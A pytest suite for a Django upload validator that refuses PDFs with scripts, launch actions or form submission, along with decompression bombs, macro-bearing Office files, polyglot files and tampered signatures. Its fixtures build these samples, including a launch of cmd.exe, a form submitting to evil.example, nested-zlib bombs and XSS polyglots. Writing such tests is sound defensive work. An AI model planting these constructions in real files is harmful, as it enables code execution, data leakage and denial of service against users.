"""What a real parser finds in what people send: what runs, what is too much, who signed."""

import base64
import datetime as dt
import hashlib
import io
import json
import struct
import subprocess
import zipfile
import zlib
from types import SimpleNamespace

import pikepdf
import pytest
from asn1crypto import algos, cms, x509
from cryptography import x509 as certificates
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from django.core.files.base import ContentFile

from core.files.kinds import SIGNED_PAPERS
from core.files.looking import look_into
from core.files.looking.child import answer_about
from core.files.models import StoredFile
from core.files.services import store_file
from core.files.serving import serve_inside
from core.kit.errors import InvalidError
from tests.factories.files import PDF, PNG, pdf

pytestmark = pytest.mark.django_db


@pytest.fixture(params=["in its process", "here"], autouse=True)
def process(request, monkeypatch):
    """Ask everything twice: of the child as it runs, and of its parsers where lines are counted."""

    def look_here(command, **given):
        try:
            answer = answer_about(command[-1], given["input"])
        except Exception as error:
            raise subprocess.CalledProcessError(1, command) from error
        return SimpleNamespace(stdout=json.dumps(answer).encode())

    if request.param == "here":
        monkeypatch.setattr(subprocess, "run", look_here)
    return request.param


def store(content, name="letter.pdf"):
    upload = ContentFile(content, name=name)
    return store_file(upload=upload, by=None, kinds=SIGNED_PAPERS)


def refusal(content, name="letter.pdf"):
    with pytest.raises(InvalidError) as error:
        store(content, name)
    assert not StoredFile.objects.exists()
    return error.value


# What runs --------------------------------------------------------------------------
def action(**values):
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **values)


SCRIPT = {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)"}


def script_at_opening(document):
    document.Root.OpenAction = action(**SCRIPT)


def script_by_name(document):
    names = pikepdf.Array(["start", document.make_indirect(action(**SCRIPT))])
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def programme_behind_a_link(document):
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 10, 10],
        A=action(S=pikepdf.Name.Launch, F="cmd.exe"),
    )
    document.pages[0].Annots = pikepdf.Array([link])


def script_on_a_page(document):
    document.pages[0].AA = pikepdf.Dictionary(O=action(**SCRIPT))


def file_inside(document):
    document.attachments["list.txt"] = b"Hello"


def running_form(document):
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pikepdf.Array([]))


def sending_form(document):
    document.Root.OpenAction = action(S=pikepdf.Name.SubmitForm, F="https://evil.example")


@pytest.mark.parametrize(
    ("change", "what"),
    [
        (script_at_opening, "a script"),
        (script_by_name, "a script"),
        (script_on_a_page, "a script"),
        (programme_behind_a_link, "starts a programme"),
        (file_inside, "attached files"),
        (running_form, "a form that runs"),
        (sending_form, "a form that sends"),
    ],
)
@pytest.mark.parametrize("mode", ["disable", "generate"])
def test_what_runs_is_refused_with_how_to_save_without_it(change, what, mode):
    # Packed into a stream no search finds it.
    packed = getattr(pikepdf.ObjectStreamMode, mode)
    error = refusal(pdf(change, object_stream_mode=packed))
    assert error.code == "file_active"
    assert what in error.message
    assert "“Save as PDF”" in error.message


# What is too much -------------------------------------------------------------------
def png_of(width, height):
    """Return a small PNG whose header promises a huge picture."""

    def chunk(name, data):
        check = struct.pack("!I", zlib.crc32(name + data))
        return struct.pack("!I", len(data)) + name + data + check

    header = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [("IHDR", header), ("IDAT", zlib.compress(b"\0" * 1000)), ("IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(n.encode(), d) for n, d in parts)


def test_picture_is_refused_by_what_its_header_promises():
    assert refusal(png_of(50_000, 50_000)).code == "file_too_many_pixels"


@pytest.mark.parametrize("process", ["in its process"], indirect=True)
def test_pdf_that_unpacks_to_gigabytes_is_refused_within_limits():
    packed = zlib.compress(zlib.compress(b"\0" * 300_000_000, 9), 9)

    def change(document):
        bomb = document.make_stream(packed)
        bomb.Filter = pikepdf.Array([pikepdf.Name.FlateDecode] * 2)
        bomb.Type, bomb.N, bomb.First = pikepdf.Name.ObjStm, 1, 4
        document.Root.Bomb = bomb

    # Nothing unpacks what no page needs.
    assert look_into(pdf(change), "pdf").problem in {"", "damaged", "bomb"}


def packed(**files):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for name, content in files.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return written.getvalue()


def locked_zip():
    content = bytearray(packed(a_txt="x"))
    # The flag of a password, in the first header and in the list of contents.
    content[6] |= 1
    content[content.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (packed(word__vbaProject_bin="x"), "holds macros"),
        (packed(xl__data="0" * 30_000_000), "unpacks to far more"),
        (packed(**{f"n{n}": "" for n in range(3000)}), "unpacks to far more"),
        (packed(inner_zip=packed(a="x")), "holds other files"),
        (packed(a_txt="x"), "not a PDF, PNG, JPEG or P7M file"),
        (locked_zip(), "asks for a password"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old kind, or one with a password"),
        (b"PK\x03\x04 cut off", "damaged"),
        (b"MZ" + b"\0" * 100, "not a PDF, PNG, JPEG or P7M file"),
        (b"<svg onload='alert(1)'>" + PDF, "not a PDF, PNG, JPEG or P7M file"),
        (b"GIF89a/*" + b"*/=1;alert(1)//" + PNG, "not a PDF, PNG, JPEG or P7M file"),
        (b"<html>", "not a PDF, PNG, JPEG or P7M file"),
    ],
)
def test_other_files_are_told_what_to_send_instead(content, words):
    error = refusal(content, "letter.pdf")
    assert words in error.message
    assert "PDF" in error.message or "Save it" in error.message


@pytest.mark.parametrize("kind", ["pdf", "image", "office", "p7m"])
@pytest.mark.parametrize("content", [b"", b"%%EOF", b"\x30\x80" + b"\xff" * 300, b"\0" * 100_000])
def test_rubbish_breaks_no_parser(kind, content):
    assert look_into(content, kind).problem == "damaged"


@pytest.mark.parametrize("process", ["in its process"], indirect=True)
def test_parser_that_never_ends_is_ended(monkeypatch):
    monkeypatch.setattr("core.files.looking.LONGEST", 0.01)
    assert look_into(PDF, "pdf").problem == "damaged"


# Who signed -------------------------------------------------------------------------
def named(organisation, person):
    return certificates.Name(
        [
            certificates.NameAttribute(NameOID.ORGANIZATION_NAME, organisation),
            certificates.NameAttribute(NameOID.COMMON_NAME, person),
        ]
    )


def envelope(content, signed=None, inside=True):
    """Return a signature of `content` (of `signed`, where somebody cheats) as bytes."""
    key = ec.generate_private_key(ec.SECP256R1())
    now = dt.datetime(2026, 11, 1, 9, tzinfo=dt.UTC)
    made = (
        certificates.CertificateBuilder()
        .subject_name(named("Općina Konavle", "Božo Lasić"))
        .issuer_name(named("Fina", "Fina RDC"))
        .public_key(key.public_key())
        .serial_number(4711)
        .not_valid_before(now)
        .not_valid_after(now + dt.timedelta(days=300))
        .sign(key, hashes.SHA256())
    )
    mine = x509.Certificate.load(made.public_bytes(serialization.Encoding.DER))
    digest = hashlib.sha256(content if signed is None else signed).digest()
    attributes = cms.CMSAttributes(
        [
            cms.CMSAttribute({"type": "content_type", "values": ["data"]}),
            cms.CMSAttribute({"type": "message_digest", "values": [digest]}),
            cms.CMSAttribute({"type": "signing_time", "values": [cms.Time({"utc_time": now})]}),
        ]
    )
    algorithm = algos.DigestAlgorithm({"algorithm": "sha256"})
    signer = cms.SignerInfo(
        {
            "version": "v1",
            "sid": cms.SignerIdentifier(
                {
                    "issuer_and_serial_number": cms.IssuerAndSerialNumber(
                        {"issuer": mine.issuer, "serial_number": mine.serial_number}
                    )
                }
            ),
            "digest_algorithm": algorithm,
            "signed_attrs": attributes,
            "signature_algorithm": {"algorithm": "sha256_ecdsa"},
            "signature": key.sign(attributes.untag().dump(), ec.ECDSA(hashes.SHA256())),
        }
    )
    data = {"content_type": "data"}
    if inside:
        data["content"] = content
    signed_data = cms.SignedData(
        {
            "version": "v1",
            "digest_algorithms": [algorithm],
            "encap_content_info": data,
            "certificates": [cms.CertificateChoices({"certificate": mine})],
            "signer_infos": [signer],
        }
    )
    return cms.ContentInfo({"content_type": "signed_data", "content": signed_data}).dump()


SIGNER = {
    "name": "Božo Lasić",
    "organisation": "Općina Konavle",
    "issuer": "Fina",
    "at": "2026-11-01T09:00:00+00:00",
    "whole": True,
}


def as_text(content):
    lines = base64.encodebytes(content)
    return b"-----BEGIN PKCS7-----\n" + lines + b"-----END PKCS7-----\n"


@pytest.mark.parametrize("written", [bytes, as_text])
def test_envelope_says_who_signed_and_hands_out_what_it_holds(written):
    stored = store(written(envelope(PDF)), "letter.pdf.p7m")
    assert (stored.kind, stored.name) == ("application/pkcs7-mime", "letter.p7m")
    assert stored.signatures == [SIGNER]
    answer = serve_inside(stored)
    assert answer.content == PDF
    assert answer["Content-Type"] == "application/pdf"
    assert 'filename="letter.pdf"' in answer["Content-Disposition"]


def test_envelope_whose_content_was_changed_says_so():
    stored = store(envelope(PDF, signed=b"another letter"))
    assert stored.signatures == [{**SIGNER, "whole": False}]


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (envelope(b"just words"), "file_not_a_pdf"),
        (envelope(b"", inside=False), "file_not_a_pdf"),
        (envelope(pdf(script_at_opening)), "file_active"),
        (envelope(PDF[:-100]), "file_damaged"),
    ],
)
def test_what_is_inside_an_envelope_is_looked_at_all_the_same(content, code):
    assert refusal(content).code == code


def signed_pdf(later=b""):
    """Return a PDF with a signature over all of it but the signature, and bytes after it."""
    room = 8000

    def change(document):
        document.Root.Signed = document.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Sig,
                ByteRange=[0, 1111111111, 1111111111, 1111111111],
                Contents=pikepdf.String(b"\x11" * room),
            )
        )

    content = pdf(change, compress_streams=False)
    mark = b"<" + b"11" * room + b">"
    start = content.index(mark)
    end = start + len(mark)
    old = b"[ 0 1111111111 1111111111 1111111111 ]"
    new = b"[ 0 %d %d %d ]" % (start, end, len(content) - end)
    content = content.replace(old, new.ljust(len(old)))
    proof = envelope(content[:start] + content[end:], inside=False).ljust(room, b"\0")
    return content[:start] + b"<" + proof.hex().encode() + b">" + content[end:] + later


def test_signed_pdf_says_who_signed():
    assert store(signed_pdf()).signatures == [SIGNER]


def test_signed_pdf_that_was_changed_says_so():
    [changed] = store(signed_pdf(later=b"% and a line\n")).signatures
    assert changed == {**SIGNER, "whole": False}
